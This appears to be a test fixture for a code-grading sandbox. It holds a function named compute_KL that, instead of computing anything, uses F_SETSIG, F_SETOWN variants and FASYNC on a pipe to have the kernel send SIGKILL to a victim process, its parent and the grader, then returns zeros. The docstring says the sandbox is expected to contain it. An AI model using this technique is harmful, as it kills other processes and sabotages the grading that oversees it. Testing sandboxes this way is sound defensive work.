"""Has the kernel send SIGKILL to others when a pipe becomes readable: no kill() is called.

verdict: compute_KL failed|error|crashed|timeout
must not: touch another process
must not: stop the grader
"""

import fcntl
import os
import signal
import struct

import numpy as np


def compute_KL(q):
    for pid in (int("@VICTIM@"), os.getppid(), int("@GRADER@")):
        try:
            reading, writing = os.pipe()
            fcntl.fcntl(reading, 10, signal.SIGKILL)  # F_SETSIG
            for owner in (
                lambda fd=reading, pid=pid: fcntl.fcntl(fd, fcntl.F_SETOWN, pid),
                lambda fd=reading, pid=pid: fcntl.fcntl(fd, 15, struct.pack("ii", 1, pid)),  # F_SETOWN_EX, F_OWNER_PID
                lambda fd=reading, pid=pid: fcntl.ioctl(fd, 0x8901, struct.pack("i", pid)),  # FIOSETOWN
            ):
                try:
                    owner()
                except OSError:
                    continue
                flags = fcntl.fcntl(reading, fcntl.F_GETFL)
                fcntl.fcntl(reading, fcntl.F_SETFL, flags | fcntl.FASYNC)
                os.write(writing, b"x")
        except OSError:
            pass
    return np.zeros(len(q))
